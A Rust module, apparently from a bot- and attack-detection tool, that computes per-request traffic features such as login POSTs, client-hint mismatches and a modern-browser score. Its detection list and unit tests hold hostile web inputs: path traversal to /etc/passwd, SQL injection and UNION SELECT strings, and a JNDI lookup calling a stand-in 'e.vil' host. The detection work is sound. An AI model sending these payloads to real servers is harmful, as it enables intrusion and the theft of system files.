//! Per-request facts the aggregates count. Each function documents its definition; the
//! ClickHouse DDL implements the same ones.

use std::borrow::Cow;
use std::sync::LazyLock;

use memchr::memmem::Finder;

use shrike_types::{HttpVersion, Method, RequestRecord};

/// Case-insensitive substring test on short ASCII-ish strings.
fn contains_ci(hay: &str, needle: &str) -> bool {
    let (h, n) = (hay.as_bytes(), needle.as_bytes());
    n.len() <= h.len() && h.windows(n.len()).any(|w| w.eq_ignore_ascii_case(n))
}

const ASSET_EXTENSIONS: [&str; 17] = [
    "css", "js", "mjs", "map", "png", "jpg", "jpeg", "gif", "svg", "webp", "avif", "ico", "bmp",
    "woff", "woff2", "ttf", "otf",
];

/// A path ending in a static-file extension (css, js, mjs, map, images, fonts).
pub fn is_asset(path: &str) -> bool {
    let last = path.rsplit('/').next().unwrap_or(path);
    match last.rsplit_once('.') {
        Some((_, ext)) => ASSET_EXTENSIONS.iter().any(|e| e.eq_ignore_ascii_case(ext)),
        None => false,
    }
}

/// Number of `/` in the path.
pub fn url_depth(path: &str) -> u32 {
    path.bytes().filter(|b| *b == b'/').count() as u32
}

const LOGIN_WORDS: [&str; 5] = ["login", "signin", "auth", "session", "token"];

/// A POST whose path mentions login, signin, auth, session or token.
pub fn is_login_post(method: Option<Method>, path: &str) -> bool {
    method == Some(Method::Post) && LOGIN_WORDS.iter().any(|w| contains_ci(path, w))
}

const PAYLOAD_PATTERNS: [&str; 16] = [
    "../",
    "..\\",
    "%2e%2e",
    "..%2f",
    "<script",
    "%3cscript",
    "javascript:",
    "union select",
    "union+select",
    "union%20select",
    "${jndi:",
    "%24%7bjndi",
    "%00",
    "/etc/passwd",
    "' or '1'='1",
    "%27%20or%20",
];

/// Traversal, script injection, SQL UNION, JNDI lookup or NUL byte in path or query.
pub fn is_anomalous_payload(path: &str, query: &str) -> bool {
    let scan = |s: &str| {
        // Fast exit: every pattern holds `..` or one of these bytes (`/etc/passwd` alone is
        // an ordinary path; it counts after traversal dots or in a query, which has `=`).
        let b = s.as_bytes();
        if !b.iter().any(|&c| {
            matches!(
                c,
                b'%' | b'<' | b'$' | b'\'' | b' ' | b'+' | b'\\' | b'\0' | b':' | b'='
            )
        }) && memchr::memmem::find(b, b"..").is_none()
        {
            return false;
        }
        let lower = s.to_ascii_lowercase();
        lower.contains('\0') || PAYLOAD_PATTERNS.iter().any(|p| lower.contains(p))
    };
    scan(path) || scan(query)
}

/// Accept absent, empty or exactly `*/*`.
pub fn is_generic_accept(accept: Option<&Cow<'_, str>>) -> bool {
    accept.is_none_or(|a| {
        let t = a.trim();
        t.is_empty() || t == "*/*"
    })
}

/// A POST whose Content-Type is absent or not one of form-urlencoded, multipart/form-data,
/// JSON (`application/json`, `+json`) or text/plain.
pub fn is_unusual_content_type(content_type: Option<&Cow<'_, str>>) -> bool {
    let Some(ct) = content_type else { return true };
    let mime = ct
        .split(';')
        .next()
        .unwrap_or("")
        .trim()
        .to_ascii_lowercase();
    !(mime == "application/x-www-form-urlencoded"
        || mime == "multipart/form-data"
        || mime == "application/json"
        || mime.ends_with("+json")
        || mime == "text/plain")
}

/// Plain HTTP: correlated without any TLS data, or uncorrelated, without TLS data, to port 80.
pub fn is_http_scheme(r: &RequestRecord<'_>) -> bool {
    let no_tls = r.ja4.is_none() && r.tls_version.is_none() && r.tls_sni.is_none();
    no_tls && (r.correlated == Some(true) || r.dst_port == Some(80))
}

/// A substring searcher built once (building one per call costs more than the search).
type Token = LazyLock<Finder<'static>>;

macro_rules! token {
    ($name:ident, $text:expr) => {
        static $name: Token = LazyLock::new(|| Finder::new($text));
    };
}

token!(CHROME, "Chrome/");
token!(FIREFOX, "Firefox/");
token!(SAFARI, "Safari/");
token!(VERSION, "Version/");
token!(BRAND_CHROMIUM, "\"Chromium\";v=\"");
token!(BRAND_CHROME, "\"Google Chrome\";v=\"");
token!(BRAND_EDGE, "\"Microsoft Edge\";v=\"");

fn has(hay: &str, token: &Token) -> bool {
    token.find(hay.as_bytes()).is_some()
}

/// Major version after `token` in a user agent (`Chrome/124.0` → 124).
fn ua_major(ua: &str, token: &Token) -> Option<u32> {
    let i = token.find(ua.as_bytes())? + token.needle().len();
    let n = ua.as_bytes()[i..]
        .iter()
        .take_while(|c| c.is_ascii_digit())
        .count();
    ua[i..i + n].parse().ok()
}

/// The Chromium major version a user agent claims (Chrome, Edge, Opera, Brave...).
pub fn chromium_major(ua: &str) -> Option<u32> {
    if has(ua, &FIREFOX) {
        return None;
    }
    ua_major(ua, &CHROME)
}

/// The major version in a Sec-CH-UA brand list for Chromium/Chrome/Edge.
fn ch_major(sec_ch_ua: &str) -> Option<u32> {
    [&BRAND_CHROMIUM, &BRAND_CHROME, &BRAND_EDGE]
        .into_iter()
        .find_map(|brand| ua_major(sec_ch_ua, brand))
}

fn over_tls(r: &RequestRecord<'_>) -> bool {
    r.ja4.is_some() || r.tls_version.is_some() || r.tls_sni.is_some() || r.dst_port == Some(443)
}

/// User agent and Sec-CH-UA disagree: a Chromium ≥ 90 agent over TLS without client hints,
/// hints from a non-Chromium agent, or different major versions. `None` when neither the
/// user agent nor the hint presence is known.
pub fn ua_ch_mismatch(r: &RequestRecord<'_>) -> Option<bool> {
    let ch = r.header_presence(r.sec_ch_ua.as_ref(), "sec-ch-ua");
    let ua = r.user_agent.as_deref().filter(|u| !u.is_empty());
    match (ua, ch) {
        (None, _) | (_, None) => None,
        (Some(ua), Some(false)) => Some(chromium_major(ua).is_some_and(|m| m >= 90) && over_tls(r)),
        (Some(ua), Some(true)) => match chromium_major(ua) {
            None => Some(true),
            Some(m) => Some(
                r.sec_ch_ua
                    .as_deref()
                    .and_then(ch_major)
                    .is_some_and(|c| c != m),
            ),
        },
    }
}

/// Sec-CH-UA-Mobile or Sec-CH-UA-Platform contradicts the user agent. `None` when neither
/// hint was sent.
pub fn sec_ch_mobile_mismatch(r: &RequestRecord<'_>) -> Option<bool> {
    let mobile = r
        .sec_ch_ua_mobile
        .as_deref()
        .map(str::trim)
        .filter(|s| !s.is_empty());
    let platform = r
        .sec_ch_ua_platform
        .as_deref()
        .map(|s| s.trim().trim_matches('"'))
        .filter(|s| !s.is_empty());
    if mobile.is_none() && platform.is_none() {
        return None;
    }
    let ua = r.user_agent.as_deref().unwrap_or("");
    let ua_mobile = ua.contains("Mobile") || ua.contains("Android");
    let mobile_bad = match mobile {
        Some("?1") => !ua_mobile,
        Some("?0") => ua.contains("Mobile"),
        _ => false,
    };
    let platform_bad = match platform {
        Some(p) if p.eq_ignore_ascii_case("Windows") => !ua.contains("Windows"),
        Some(p) if p.eq_ignore_ascii_case("macOS") => !ua.contains("Macintosh"),
        Some(p) if p.eq_ignore_ascii_case("Android") => !ua.contains("Android"),
        Some(p) if p.eq_ignore_ascii_case("Linux") => !(ua.contains("Linux") || ua.contains("X11")),
        Some(p) if p.eq_ignore_ascii_case("Chrome OS") => !ua.contains("CrOS"),
        _ => false,
    };
    Some(mobile_bad || platform_bad)
}

/// Share (0..=1) of five modern-browser signals in one request: any Sec-Fetch-* header;
/// `br` or `zstd` in Accept-Encoding; HTTP/2 or 3; Accept-Language present; a current
/// browser version in the user agent (Chromium ≥ 100, Firefox ≥ 100, Safari ≥ 15).
pub fn modern_browser_score(r: &RequestRecord<'_>) -> f32 {
    let sec_fetch =
        r.sec_fetch_site.is_some() || r.sec_fetch_mode.is_some() || r.sec_fetch_dest.is_some();
    let enc = r
        .accept_encoding
        .as_deref()
        .is_some_and(|e| e.contains("br") || e.contains("zstd"));
    let h2 = matches!(
        r.http_version,
        Some(HttpVersion::Http2 | HttpVersion::Http3)
    );
    let lang = r.accept_language.as_deref().is_some_and(|l| !l.is_empty());
    let ua = r.user_agent.as_deref().unwrap_or("");
    let modern_ua = chromium_major(ua).is_some_and(|m| m >= 100)
        || ua_major(ua, &FIREFOX).is_some_and(|m| m >= 100)
        || (has(ua, &SAFARI)
            && !has(ua, &CHROME)
            && ua_major(ua, &VERSION).is_some_and(|m| m >= 15));
    [sec_fetch, enc, h2, lang, modern_ua]
        .iter()
        .filter(|b| **b)
        .count() as f32
        / 5.0
}

/// Host normalised for the session key: ASCII lower case, without port or trailing dot.
pub fn normalize_host(host: &str) -> Cow<'_, str> {
    let h = host.trim();
    let h = if h.starts_with('[') {
        // [v6]:port
        h.find(']').map_or(h, |i| &h[..=i])
    } else {
        match h.rsplit_once(':') {
            Some((name, port))
                if !name.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) =>
            {
                name
            }
            _ => h,
        }
    };
    let h = h.strip_suffix('.').unwrap_or(h);
    if h.bytes().any(|b| b.is_ascii_uppercase()) {
        Cow::Owned(h.to_ascii_lowercase())
    } else {
        Cow::Borrowed(h)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn predicates() {
        assert!(
            is_asset("/static/app.min.js")
                && is_asset("/f/Inter.WOFF2")
                && !is_asset("/api/v1.2/users")
        );
        assert_eq!(url_depth("/a/b/c"), 3);
        assert!(is_login_post(Some(Method::Post), "/wp-login.php"));
        assert!(!is_login_post(Some(Method::Get), "/wp-login.php"));
        assert!(is_anomalous_payload("/../../etc/passwd", ""));
        assert!(is_anomalous_payload(
            "/search",
            "q=1%27%20OR%20%271%27=%271 UNION SELECT"
        ));
        assert!(is_anomalous_payload("/x", "a=${jndi:ldap://e.vil/a}"));
        assert!(!is_anomalous_payload(
            "/products/shoes.html",
            "page=2&sort=price"
        ));
        assert!(is_generic_accept(None) && is_generic_accept(Some(&"*/*".into())));
        assert!(!is_unusual_content_type(Some(
            &"application/json; charset=utf-8".into()
        )));
        assert!(is_unusual_content_type(Some(
            &"application/x-java-serialized-object".into()
        )));
        assert_eq!(normalize_host("Example.COM:8443"), "example.com");
        assert_eq!(normalize_host("[2001:db8::1]:443"), "[2001:db8::1]");
        assert_eq!(normalize_host("shop.example."), "shop.example");
    }

    #[test]
    fn client_hint_coherence() {
        let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
        let mut r = RequestRecord {
            user_agent: Some(chrome.into()),
            tls_version: Some(shrike_types::TlsVersion::Tls13),
            header_names: Some(vec!["host".into(), "user-agent".into()]),
            ..RequestRecord::default()
        };
        assert_eq!(
            ua_ch_mismatch(&r),
            Some(true),
            "Chrome 124 over TLS without hints"
        );
        r.sec_ch_ua = Some(r#""Chromium";v="124", "Google Chrome";v="124""#.into());
        assert_eq!(ua_ch_mismatch(&r), Some(false));
        r.sec_ch_ua = Some(r#""Chromium";v="120""#.into());
        assert_eq!(ua_ch_mismatch(&r), Some(true), "version disagrees");
        r.user_agent =
            Some("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0".into());
        assert_eq!(ua_ch_mismatch(&r), Some(true), "Firefox never sends hints");
        r.sec_ch_ua_mobile = Some("?1".into());
        assert_eq!(sec_ch_mobile_mismatch(&r), Some(true));
        let none = RequestRecord::default();
        assert_eq!(ua_ch_mismatch(&none), None);
        assert_eq!(sec_ch_mobile_mismatch(&none), None);
    }
}
